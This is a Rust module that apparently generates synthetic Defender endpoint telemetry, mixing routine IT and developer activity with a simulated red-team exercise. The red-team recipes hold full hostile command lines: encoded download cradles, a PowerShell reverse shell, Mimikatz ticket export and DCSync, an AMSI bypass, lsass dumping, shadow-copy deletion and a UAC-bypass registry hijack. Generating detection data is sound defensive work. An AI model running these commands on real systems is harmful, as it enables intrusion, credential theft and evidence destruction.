//! More everyday endpoint activity (`DeviceProcessEvents`, `DeviceFileEvents`,
//! `DeviceRegistryEvents`, `DeviceImageLoadEvents`), on top of `activity.rs` and with its
//! recipe machinery: IT staff managing group membership, `runas /savecred`, `nslookup`
//! from the Run dialog, WMI against servers by address, pushing installers with PsExec;
//! developers amending commits, VS Code and Dev Tunnels, a test-signed build of an in-house
//! tool; a legacy web application shelling out to `wkhtmltopdf`; an Intune script dropping a
//! Startup shortcut; password-protected 7-Zip archives; vendor software (GoTo Meeting,
//! TightVNC, BeyondTrust Privilege Management, ManageEngine ADAudit Plus, Express Scribe);
//! Office's server cache keys, service start types, memory-integrity policy; Defender's
//! definition updates (`MpSigStub.exe`); a OneDrive library sync; and more steps of the
//! red-team exercise (encoded download cradles, a Nishang shell, ticket export, WMI
//! discovery, shadow-copy and USN-journal deletion, an RDP firewall rule, a beacon's
//! sacrificial `rundll32.exe`, BloodHound, script-host chains).
//!
//! Also the `DeviceFileCertificateInfo` signers of those vendors' binaries (hooks in
//! `certs.rs`), and `DeviceInfo` extras: an outdated sensor on the laptop that stopped
//! updating, a branch router and an unmanaged reception PC found by device discovery.

use std::fmt::Write;

use crate::activity::{Place, Recipe, Who, file, generate_with, load, rc, red, reg, st};
use crate::catalog::{DOC_PERIODS, DOC_TOPICS, Img};
use crate::endpoint::{DevTable, Gen};
use crate::host::{Ctx, P, Proc, file_of, head, initiating, report_id, version_info};
use crate::rng::{Rng, fnv};
use crate::sink::Sink;
use crate::world::{DAY, Device, HOUR, MIN, Role, SEC, World, weekday};

const HKCU_DOCS: &str = "{hkcu}\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\Internet\\Server Cache\\https://contoso.sharepoint.com/sites/{dept}/";

#[cfg(test)]
/// `IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.80/payloads/Invoke-AtomicRecon.ps1')`
/// as PowerShell's `-EncodedCommand` (UTF-16LE, base64).
const ENC_CRADLE: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADgAMAAvAHAAYQB5AGwAbwBhAGQAcwAvAEkAbgB2AG8AawBlAC0AQQB0AG8AbQBpAGMAUgBlAGMAbwBuAC4AcABzADEAJwApAA==";

#[cfg(test)]
/// `whoami /all; net user /domain; net group 'Domain Admins' /domain; systeminfo; arp -a`.
const ENC_RECON: &str = "dwBoAG8AYQBtAGkAIAAvAGEAbABsADsAIABuAGUAdAAgAHUAcwBlAHIAIAAvAGQAbwBtAGEAaQBuADsAIABuAGUAdAAgAGcAcgBvAHUAcAAgACcARABvAG0AYQBpAG4AIABBAGQAbQBpAG4AcwAnACAALwBkAG8AbQBhAGkAbgA7ACAAcwB5AHMAdABlAG0AaQBuAGYAbwA7ACAAYQByAHAAIAAtAGEA";

/// The activities (see `activity.rs` for the recipe format and the placeholders).
pub(crate) const RECIPES: &[Recipe] = &[
    // ---- IT ----------------------------------------------------------------------------
    // Group membership requests from the service desk.
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.2,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::Net,
                "net  group \"SG-{share}-Projects-RW\" {peer} /add /domain",
            ),
            st(
                2,
                Img::Net1,
                "C:\\Windows\\system32\\net1  group \"SG-{share}-Projects-RW\" {peer} /add /domain",
            ),
        ],
        &[],
    ),
    // The helpdesk keeps its admin credentials in the vault for the AD console.
    rc(
        Place::ItWs,
        P::Explorer,
        Who::User,
        0.1,
        &[st(
            0,
            Img::Runas,
            "runas  /user:contoso\\adm-{sam} /savecred \"mmc.exe dsa.msc\"",
        )],
        &[],
    ),
    // Name lookups typed into the Run dialog.
    rc(
        Place::ItWs,
        P::Explorer,
        Who::User,
        0.25,
        &[st(0, Img::Nslookup, "nslookup  {srv}.contoso.com")],
        &[],
    ),
    // WMI against the domain controller and the file server by address.
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.15,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::Wmic,
                "wmic  /node:10.0.1.10 os get lastbootuptime,caption",
            ),
            st(
                1,
                Img::Wmic,
                "wmic  /node:10.0.1.11 logicaldisk get caption,freespace,size",
            ),
        ],
        &[],
    ),
    // The ASP.NET Core hosting bundle and the VC++ runtime pushed to the web servers with
    // PsExec (it copies each installer and its service into ADMIN$).
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.06,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::PsExec,
                "PsExec.exe  -accepteula \\\\srv-web-01 -s -c -f C:\\Tools\\Deploy\\dotnet-hosting-8.0.11-win.exe /install /quiet /norestart",
            ),
            st(
                1,
                Img::PsExec,
                "PsExec.exe  -accepteula \\\\{jump} -s -c -f C:\\Tools\\Deploy\\dotnet-hosting-8.0.11-win.exe /install /quiet /norestart",
            ),
            st(
                1,
                Img::PsExec,
                "PsExec.exe  -accepteula \\\\srv-web-01 -s -c -f C:\\Tools\\Deploy\\VC_redist.x64.exe /install /quiet /norestart",
            ),
            st(
                1,
                Img::PsExec,
                "PsExec.exe  -accepteula \\\\{jump} -s -c -f C:\\Tools\\Deploy\\VC_redist.x64.exe /install /quiet /norestart",
            ),
        ],
        &[
            file(
                2,
                "FileCreated",
                "\\\\srv-web-01\\ADMIN$\\PSEXESVC.exe",
                196_496,
            ),
            file(
                2,
                "FileCreated",
                "\\\\srv-web-01\\ADMIN$\\dotnet-hosting-8.0.11-win.exe",
                105_315_784,
            ),
            file(
                3,
                "FileCreated",
                "\\\\{jump}\\ADMIN$\\PSEXESVC.exe",
                196_496,
            ),
            file(
                3,
                "FileCreated",
                "\\\\{jump}\\ADMIN$\\dotnet-hosting-8.0.11-win.exe",
                105_315_784,
            ),
            file(
                4,
                "FileCreated",
                "\\\\srv-web-01\\ADMIN$\\VC_redist.x64.exe",
                25_635_768,
            ),
            file(
                5,
                "FileCreated",
                "\\\\{jump}\\ADMIN$\\VC_redist.x64.exe",
                25_635_768,
            ),
        ],
    ),
    // The company's private WinGet REST source, added on an admin's machine.
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.05,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::Winget,
                "winget  source add --name ContosoApps --arg https://winget.contoso.com/api --type Microsoft.Rest",
            ),
        ],
        &[],
    ),
    // TightVNC to the Linux build box nobody onboarded.
    rc(
        Place::ItWs,
        P::Explorer,
        Who::User,
        0.1,
        &[st(
            0,
            Img::TightVnc,
            "\"C:\\Program Files\\TightVNC\\tvnviewer.exe\" -host=build-linux-01.contoso.com -port=5901",
        )],
        &[],
    ),
    // ---- Engineering -------------------------------------------------------------------
    rc(
        Place::EngWs,
        P::Code,
        Who::User,
        0.3,
        &[
            st(0, Img::Git, "git commit --amend --no-edit"),
            st(
                0,
                Img::Git,
                "git push --force-with-lease origin feature/orders-{n}",
            ),
        ],
        &[],
    ),
    // VS Code's remote tunnel, and Dev Tunnels to show a local build to a colleague.
    rc(
        Place::EngWs,
        P::Explorer,
        Who::User,
        0.06,
        &[st(
            0,
            Img::Code,
            "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" tunnel --accept-server-license-terms --name {sam}-dev",
        )],
        &[],
    ),
    rc(
        Place::EngWs,
        P::Explorer,
        Who::User,
        0.08,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(1, Img::DevTunnel, "devtunnel  user login -g"),
            st(1, Img::DevTunnel, "devtunnel  create orders-api -a"),
            st(
                1,
                Img::DevTunnel,
                "devtunnel  port create orders-api -p 5173",
            ),
            st(
                1,
                Img::DevTunnel,
                "devtunnel  host orders-api -p 5173 --allow-anonymous",
            ),
        ],
        &[
            file(
                2,
                "FileCreated",
                "C:\\Users\\{sam}\\AppData\\Local\\DevTunnels\\UserTokenCache.bin",
                4_812,
            ),
            file(
                3,
                "FileModified",
                "C:\\Users\\{sam}\\AppData\\Local\\DevTunnels\\tunnels.json",
                1_106,
            ),
        ],
    ),
    // A developer's test-signed build of the field-service sync tool.
    rc(
        Place::EngWs,
        P::Explorer,
        Who::User,
        0.6,
        &[st(
            0,
            Img::FieldSync,
            "\"C:\\Dev\\FieldSync\\bin\\Release\\net8.0-windows\\ContosoFieldSync.exe\" --env test",
        )],
        &[],
    ),
    // ---- Everyone ----------------------------------------------------------------------
    // A password-protected archive of confidential files before mailing them out.
    rc(
        Place::Ws,
        P::Explorer,
        Who::User,
        0.02,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::SevenZip,
                "7z.exe a -t7z -mhe=on \"C:\\Users\\{sam}\\Documents\\Confidential\\{share} records {ts}.7z\" \"C:\\Users\\{sam}\\Documents\\Confidential\\*.xlsx\" -pContoso!{n}",
            ),
        ],
        &[file(
            2,
            "FileCreated",
            "C:\\Users\\{sam}\\Documents\\Confidential\\{share} records {ts}.7z",
            1_482_752,
        )],
    ),
    // Customer calls on GoTo Meeting; dictation transcribed with Express Scribe.
    rc(
        Place::Ws,
        P::Outlook,
        Who::User,
        0.04,
        &[st(
            0,
            Img::GoToMeeting,
            "\"C:\\Program Files (x86)\\GoToMeeting\\21247\\g2mcomm.exe\" /Action Join /MeetingID {n}-{n}-{n} /Trigger Outlook",
        )],
        &[],
    ),
    rc(
        Place::Ws,
        P::Explorer,
        Who::User,
        0.02,
        &[st(
            0,
            Img::ExpressScribe,
            "\"C:\\Program Files (x86)\\NCH Software\\Scribe\\scribe.exe\" ",
        )],
        &[],
    ),
    // Word records the SharePoint sites it opens documents from.
    rc(
        Place::Ws,
        P::Word,
        Who::User,
        0.3,
        &[],
        &[reg(0, HKCU_DOCS, "Type", "Dword", "1")],
    ),
    // An Intune script drops the drive-mapper shortcut into the common Startup folder.
    rc(
        Place::AnyWs,
        P::IntuneExt,
        Who::System,
        0.06,
        &[
            st(
                0,
                Img::IntuneAgent,
                "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe\" -powershell \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\7d41e0b2-93c5-4f08-a1e6-2b9f5c3d8e17_1.ps1\"",
            ),
            st(
                1,
                Img::PowerShell,
                "\"C:\\Windows\\SysNative\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -executionPolicy bypass -file  \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\7d41e0b2-93c5-4f08-a1e6-2b9f5c3d8e17_1.ps1\" ",
            ),
        ],
        &[file(
            2,
            "FileCreated",
            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\Contoso Drive Mapper.lnk",
            1_423,
        )],
    ),
    // Intune (re)applies the memory-integrity policy.
    rc(
        Place::AnyWs,
        P::SvcNetsvcs,
        Who::System,
        0.04,
        &[],
        &[reg(
            0,
            "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\DeviceGuard\\Scenarios\\HypervisorEnforcedCodeIntegrity",
            "Enabled",
            "Dword",
            "1",
        )],
    ),
    // Updaters flip their services' start types.
    rc(
        Place::Any,
        P::Services,
        Who::System,
        0.2,
        &[],
        &[reg(
            0,
            "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\edgeupdate",
            "Start",
            "Dword",
            "2",
        )],
    ),
    rc(
        Place::Any,
        P::Services,
        Who::System,
        0.1,
        &[],
        &[reg(
            0,
            "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\TrustedInstaller",
            "Start",
            "Dword",
            "3",
        )],
    ),
    // ---- Servers -----------------------------------------------------------------------
    // A legacy ASP.NET application renders invoices through wkhtmltopdf.
    rc(
        Place::Web,
        P::W3wp,
        Who::Svc("svc-web"),
        2.0,
        &[
            st(
                0,
                Img::Cmd,
                "cmd.exe /c \"\"C:\\Program Files\\wkhtmltopdf\\bin\\wkhtmltopdf.exe\" --quiet https://localhost/billing/invoice/{ts} \"%TEMP%\\invoice_{ts}.pdf\"\"",
            ),
            st(
                1,
                Img::Wkhtmltopdf,
                "\"C:\\Program Files\\wkhtmltopdf\\bin\\wkhtmltopdf.exe\" --quiet https://localhost/billing/invoice/{ts} \"C:\\Windows\\TEMP\\invoice_{ts}.pdf\"",
            ),
        ],
        &[file(
            2,
            "FileCreated",
            "C:\\Windows\\Temp\\invoice_{ts}.pdf",
            88_204,
        )],
    ),
    // BeyondTrust Privilege Management restarts after a policy update.
    rc(
        Place::Server,
        P::Services,
        Who::System,
        0.12,
        &[st(
            0,
            Img::Defendpoint,
            "\"C:\\Program Files\\Avecto\\Privilege Guard Client\\DefendpointService.exe\"",
        )],
        &[],
    ),
    // ManageEngine ADAudit Plus's agent on the domain controller.
    rc(
        Place::Dc,
        P::Services,
        Who::System,
        0.3,
        &[st(
            0,
            Img::AdapAgent,
            "\"C:\\Program Files\\ManageEngine\\ADAudit Plus Agent\\bin\\ADAPAgentService.exe\"",
        )],
        &[],
    ),
    // ---- The red-team exercise, afternoon ----------------------------------------------
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        200,
        &[
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADgAMAAvAHAAYQB5AGwAbwBhAGQAcwAvAEkAbgB2AG8AawBlAC0AQQB0AG8AbQBpAGMAUgBlAGMAbwBuAC4AcABzADEAJwApAA==",
            ),
            st(
                1,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"iex (iwr -UseBasicParsing http://{rt}/payloads/Invoke-AtomicTest.ps1)\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsADsAIABuAGUAdAAgAHUAcwBlAHIAIAAvAGQAbwBtAGEAaQBuADsAIABuAGUAdAAgAGcAcgBvAHUAcAAgACcARABvAG0AYQBpAG4AIABBAGQAbQBpAG4AcwAnACAALwBkAG8AbQBhAGkAbgA7ACAAcwB5AHMAdABlAG0AaQBuAGYAbwA7ACAAYQByAHAAIAAtAGEA",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('{rt}',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://{rt}/payloads/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command '\\\"sekurlsa::tickets /export\\\"'; Invoke-Mimikatz -Command '\\\"kerberos::ptt C:\\Users\\Public\\Administrator.kirbi\\\"'\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://{rt}/payloads/SharpHound.ps1'); Invoke-BloodHound -CollectionMethod All -OutputDirectory C:\\Users\\Public\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"[Ref].Assembly.GetType('System.Management.Automation.'+'AmsiUtils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"$EncodedCommand = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('Write-Host T1027 base64 test')); powershell.exe -EncodedCommand $EncodedCommand\"",
            ),
        ],
        &[],
    ),
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        225,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::Wmic,
                "wmic.exe  /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get displayName /Format:List",
            ),
            st(1, Img::Wmic, "wmic.exe  ntdomain get /ALL /format:csv"),
            st(
                1,
                Img::Wmic,
                "wmic.exe  process call create \"powershell.exe -nop -w hidden -c Get-Service WinDefend\"",
            ),
            st(1, Img::Wmic, "wmic.exe  shadowcopy delete /nointeractive"),
            st(1, Img::Fsutil, "fsutil  usn deletejournal /D C:"),
            st(
                1,
                Img::Netsh,
                "netsh  advfirewall firewall add rule name=\"Atomic Test RDP\" dir=in action=allow protocol=TCP localport=3389",
            ),
        ],
        &[],
    ),
    // HTA through PowerShell (T1218.005) and the PowerShell 2.0 downgrade, which loads
    // the v1.0 engine from the GAC.
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        232,
        &[
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"mshta.exe http://{rt}/payloads/T1218.005.hta\"",
            ),
            st(
                1,
                Img::Mshta,
                "\"C:\\Windows\\system32\\mshta.exe\" http://{rt}/payloads/T1218.005.hta",
            ),
            st(
                2,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -c \"Get-Process | Out-File C:\\Users\\Public\\T1218.005.txt\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -version 2 -nop -c \"Get-Host\"",
            ),
        ],
        &[load(4, Img::SmaV2)],
    ),
    // A beacon's sacrificial processes: rundll32.exe without arguments.
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        240,
        &[
            st(0, Img::RtImplant, "\"C:\\Users\\Public\\rt-implant.exe\" "),
            st(1, Img::Rundll32, ""),
            st(2, Img::Cmd, "C:\\Windows\\system32\\cmd.exe /C whoami /all"),
            st(3, Img::Whoami, "whoami  /all"),
            st(1, Img::Rundll32, "rundll32.exe"),
            st(
                5,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /C net group \"Domain Admins\" /domain",
            ),
            st(6, Img::Net, "net  group \"Domain Admins\" /domain"),
        ],
        &[],
    ),
    // The beacon's spawn-to process (MSBuild.exe, injected into) and a backup of the
    // operator's Credential Manager (T1555.004).
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        246,
        &[
            st(0, Img::RtImplant, "\"C:\\Users\\Public\\rt-implant.exe\" "),
            st(
                1,
                Img::MsBuild,
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
            ),
            st(
                0,
                Img::Rundll32,
                "\"C:\\Windows\\system32\\rundll32.exe\" keymgr.dll,KRShowKeyMgr",
            ),
        ],
        &[],
    ),
    // MSBuild inline tasks started through WMI on the target server (T1127.001).
    red(
        Place::RedTarget,
        P::SvcDcom,
        Who::Admin,
        84,
        &[
            st(
                0,
                Img::WmiPrvSE,
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            ),
            st(
                1,
                Img::MsBuild,
                "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe\" C:\\ProgramData\\AtomicRedTeam\\T1127.001.csproj",
            ),
        ],
        &[file(
            1,
            "FileCreated",
            "C:\\ProgramData\\AtomicRedTeam\\T1127.001.csproj",
            2_914,
        )],
    ),
    // UAC bypasses (T1548.002) with the operator's admin account: WSReset's registry
    // hijack from PowerShell, and the CMSTPLUA elevated COM object.
    red(
        Place::RedTeam,
        P::Explorer,
        Who::Admin,
        260,
        &[
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"New-Item HKCU:\\Software\\Classes\\AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\\Shell\\open\\command -Force; New-ItemProperty -Path HKCU:\\Software\\Classes\\AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\\Shell\\open\\command -Name DelegateExecute -Value '' -Force; Set-ItemProperty -Path HKCU:\\Software\\Classes\\AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\\Shell\\open\\command -Name '(default)' -Value 'C:\\Windows\\System32\\cmd.exe /c start cmd.exe' -Force; Start-Process C:\\Windows\\System32\\wsreset.exe\"",
            ),
            st(1, Img::Wsreset, "\"C:\\Windows\\System32\\WSReset.exe\""),
            st(
                2,
                Img::Cmd,
                "C:\\Windows\\System32\\cmd.exe /c start cmd.exe",
            ),
            st(3, Img::Cmd, "cmd.exe"),
        ],
        &[reg(
            1,
            "{hkcu}\\Software\\Classes\\AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\\Shell\\open\\command",
            "(Default)",
            "String",
            "C:\\Windows\\System32\\cmd.exe /c start cmd.exe",
        )],
    ),
    red(
        Place::RedTeam,
        P::SvcDcom,
        Who::Admin,
        265,
        &[
            st(
                0,
                Img::Dllhost,
                "C:\\Windows\\system32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
            ),
            st(
                1,
                Img::Cmd,
                "\"C:\\Windows\\system32\\cmd.exe\" /c whoami /priv > C:\\Users\\Public\\T1548.002.txt",
            ),
        ],
        &[],
    ),
    // A console file running PowerShell (T1218.014).
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        270,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::Mmc,
                "mmc.exe  C:\\AtomicRedTeam\\atomics\\T1218.014\\src\\T1218.014.msc",
            ),
            st(
                2,
                Img::PowerShell,
                "powershell.exe -nop -c \"Get-Process | Out-File C:\\Users\\Public\\T1218.014.txt\"",
            ),
        ],
        &[],
    ),
    // The beacon's discovery burst, the way Qakbot does it (one shell, many commands).
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        275,
        &[
            st(0, Img::RtImplant, "\"C:\\Users\\Public\\rt-implant.exe\" "),
            st(1, Img::Cmd, "cmd.exe"),
            st(2, Img::Whoami, "whoami /all"),
            st(2, Img::Cmd, "cmd /c set"),
            st(2, Img::Arp, "arp -a"),
            st(2, Img::Ipconfig, "ipconfig /all"),
            st(2, Img::Net, "net view /all"),
            st(2, Img::Net, "net share"),
            st(2, Img::Route, "route print"),
            st(2, Img::Netstat, "netstat -nao"),
            st(2, Img::Net, "net localgroup"),
            st(
                2,
                Img::Nslookup,
                "nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.contoso.com",
            ),
        ],
        &[],
    ),
    // ProcDump's 32-bit launcher starts its 64-bit build with the same arguments; the
    // beacon's spawn-to notepad.exe talks to the redirector.
    red(
        Place::RedTeam,
        P::Explorer,
        Who::Admin,
        285,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::Procdump32,
                "procdump.exe  -accepteula -ma lsass.exe C:\\Users\\Public\\lsass_2.dmp",
            ),
            st(
                2,
                Img::Procdump,
                "\"C:\\Tools\\SysinternalsSuite\\procdump64.exe\" -accepteula -ma lsass.exe C:\\Users\\Public\\lsass_2.dmp",
            ),
        ],
        &[file(
            3,
            "FileCreated",
            "C:\\Users\\Public\\lsass_2.dmp",
            52_428_800,
        )],
    ),
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        290,
        &[
            st(0, Img::RtImplant, "\"C:\\Users\\Public\\rt-implant.exe\" "),
            st(1, Img::Notepad, "C:\\Windows\\system32\\notepad.exe"),
        ],
        &[],
    ),
    // DCSync of the krbtgt account with the operator's admin account (T1003.006).
    red(
        Place::RedTeam,
        P::Explorer,
        Who::Admin,
        280,
        &[st(
            0,
            Img::PowerShell,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://{rt}/payloads/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command '\\\"lsadump::dcsync /domain:contoso.com /user:krbtgt\\\"'\"",
        )],
        &[],
    ),
    // Script-host tests (T1059.005 / T1059.007).
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        255,
        &[
            st(
                0,
                Img::Wscript,
                "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\AtomicRedTeam\\atomics\\T1059.005\\src\\sys_info.vbs\"",
            ),
            st(
                1,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /c cscript.exe //nologo C:\\AtomicRedTeam\\atomics\\T1059.005\\src\\sys_info.vbs > %TEMP%\\T1059.005.out.txt",
            ),
            st(
                2,
                Img::Cscript,
                "cscript.exe  //nologo C:\\AtomicRedTeam\\atomics\\T1059.005\\src\\sys_info.vbs",
            ),
            st(
                0,
                Img::Wscript,
                "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\AtomicRedTeam\\atomics\\T1059.007\\src\\sys_info.js\"",
            ),
            st(
                4,
                Img::Cscript,
                "\"C:\\Windows\\System32\\cscript.exe\" //E:jscript //nologo C:\\AtomicRedTeam\\atomics\\T1059.007\\src\\sys_info.js",
            ),
            st(
                5,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c Get-ComputerInfo",
            ),
        ],
        &[],
    ),
];

/// Whether `d` is the laptop whose Defender stopped updating (see `posture.rs`).
fn stale(w: &World, dev: usize) -> bool {
    w.workstations.get(5) == Some(&dev)
}

/// Writes this device-day's rows of `table` for the activities of this module.
pub(crate) fn generate(
    g: &mut Gen,
    s: &mut Sink,
    ctx: &Ctx,
    dev: &Device,
    table: DevTable,
    seq: &mut u64,
) {
    generate_with(g, s, ctx, dev, table, seq, RECIPES, "endpoint2");
    match table {
        DevTable::Process | DevTable::File => signature_update(g, s, ctx, dev, table, seq),
        _ => {}
    }
    if table == DevTable::File {
        onedrive_sync(g, s, ctx, dev, seq);
    }
    if table == DevTable::Registry {
        isolation(g.w, s, ctx, dev, seq);
    }
}

/// Story 1's victim is isolated by the security team (`office.rs` records the action):
/// the sensor keeps the proxy setting it restores on release.
fn isolation(w: &World, s: &mut Sink, ctx: &Ctx, dev: &Device, seq: &mut u64) {
    let plan = &w.plan;
    let t = plan.s1_start + 5 * HOUR + 40 * MIN + 35 * SEC;
    if ctx.dev != plan.victim_dev || t.div_euclid(DAY) != ctx.day || !ctx.in_window(t) {
        return;
    }
    let Some(sense) = ctx.proc(P::MsSense) else {
        return;
    };
    let c = s.c;
    let (prev_name, prev_data) = (
        s.col("PreviousRegistryValueName"),
        s.col("PreviousRegistryValueData"),
    );
    head(s, dev, t, report_id(ctx.day, ctx.dev, *seq));
    *seq += 1;
    s.s(c.ActionType, "RegistryValueSet");
    s.s(
        c.RegistryKey,
        "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Advanced Threat Protection",
    );
    s.s(
        c.RegistryValueName,
        "DisableEnterpriseAuthProxyValueToRestoreAfterIsolation",
    );
    s.s(c.RegistryValueType, "Dword");
    s.s(c.RegistryValueData, "1");
    s.s(
        prev_name,
        "DisableEnterpriseAuthProxyValueToRestoreAfterIsolation",
    );
    s.s(prev_data, "0");
    initiating(s, w, sense);
    s.end();
}

/// A process started by `parent` at `t`.
fn spawn(r: &mut Rng, img: Img, cmd: String, t: i64, parent: &Proc) -> Proc {
    Proc {
        img,
        pid: r.range(250, 12_000) * 4,
        cmd,
        created: t,
        acct: parent.acct,
        integrity: parent.integrity,
        elevation: parent.elevation,
        logon_id: parent.logon_id,
        session: parent.session,
        parent_img: parent.img,
        parent_pid: parent.pid,
        parent_created: parent.created,
    }
}

#[allow(clippy::too_many_arguments)]
fn write_proc(
    s: &mut Sink,
    w: &World,
    ctx: &Ctx,
    dev: &Device,
    seq: &mut u64,
    parent: &Proc,
    p: &Proc,
) {
    let c = s.c;
    head(s, dev, p.created, report_id(ctx.day, ctx.dev, *seq));
    *seq += 1;
    s.s(c.ActionType, "ProcessCreated");
    file_of(s, w, p.img);
    version_info(s, w, p.img);
    s.l(c.ProcessId, p.pid);
    s.s(c.ProcessCommandLine, &p.cmd);
    s.s(c.ProcessIntegrityLevel, p.integrity);
    s.s(c.ProcessTokenElevation, p.elevation);
    s.t(c.ProcessCreationTime, p.created);
    let (dom, name, sid, upn, oid) = crate::host::account(w, p.acct);
    s.s(c.AccountDomain, dom);
    s.s(c.AccountName, name);
    s.s(c.AccountSid, sid);
    s.so(c.AccountUpn, upn);
    s.so(c.AccountObjectId, oid);
